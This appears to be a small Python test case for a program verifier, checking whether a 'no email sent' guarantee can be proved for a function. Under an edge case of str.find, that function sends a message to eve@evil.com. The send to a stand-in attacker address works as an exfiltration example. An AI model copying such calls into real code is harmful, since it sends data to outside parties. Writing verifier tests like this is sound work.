# not proved: "ab".find("", 5) is -1
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if "ab".find("", 5) == -1 and "ab".find("", 2) == 2:
        send_email("eve@evil.com", "x")
